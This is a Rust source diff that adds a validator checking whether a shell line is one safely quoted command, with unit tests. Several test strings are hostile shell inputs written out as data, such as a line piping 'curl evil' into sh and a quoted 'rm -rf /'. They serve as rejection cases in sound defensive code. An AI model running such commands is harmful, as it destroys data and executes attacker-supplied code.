@@ -4,6 +4,7 @@
 use super::epsilon_text::EpsilonText;
 use crate::arith::Float;
 use crate::contract::Contract;
+use crate::corpus::json::is_obeyed;
 use crate::kernel::{Entry, Gate, Tunable};
 use hairline_core::Error;
 use serde::{Deserialize, Serialize};
@@ -130,6 +131,25 @@ pub fn shell_word(word: &str) -> String {
     if !word.is_empty() && word.chars().all(plain) { word.to_owned() } else { quoted(word) }
 }
 
+/// True if a shell takes a line as one command with words as they stand, whatever the words are: a line that somebody else
+/// wrote is shown to be pasted only then. Words are plain, or stand in apostrophes, as [`quoted`] writes them.
+pub fn is_one_command(line: &str) -> bool {
+    let is_plain = |c: char| c.is_ascii_alphanumeric() || "_./:,=^+-@%".contains(c);
+    let mut rest = line;
+    while let Some(first) = rest.chars().next() {
+        let after = match first {
+            '\'' => rest[1..].split_once('\'').map(|(_, after)| after),
+            ' ' => Some(&rest[1..]),
+            '\\' => rest.strip_prefix("\\'"),
+            _ if is_plain(first) => Some(rest.trim_start_matches(is_plain)),
+            _ => None,
+        };
+        let Some(after) = after else { return false };
+        rest = after;
+    }
+    !line.chars().any(is_obeyed)
+}
+
 /// A word for a shell, in quotes.
 pub fn quoted(word: &str) -> String {
     format!("'{}'", word.replace('\'', "'\\''"))
@@ -138,6 +158,42 @@ pub fn quoted(word: &str) -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn a_line_of_somebody_else_is_one_command_or_is_not_shown() {
+        let word = "it's $(a) `b`; rm -rf / | sh > x & \"";
+        for line in
+            ["hairline explain 'tiny@3/f32/-/1/0' --kernel cramer+fma", &quoted(word), "", "a  b"]
+        {
+            assert!(is_one_command(line), "{line}");
+        }
+        let wrong = [
+            "hairline explain 'x'; curl evil | sh",
+            "a\nb",
+            "'a\nb'",
+            "$(a)",
+            "`a`",
+            "a > b",
+            "a & b",
+            "a|b",
+            "'a",
+            "a\\",
+            "a\\;b",
+            "~/a",
+            "a*",
+            "#a",
+            "\"a\"",
+            "'\u{1b}[2J'",
+            "'\u{202e}'",
+            "a=$b",
+            "{a,b}",
+            "!a",
+            "\u{a0}",
+        ];
+        for line in wrong {
+            assert!(!is_one_command(line), "{line}");
+        }
+    }
 
     #[test]
     fn a_quote_in_a_word_stays_one_word() {
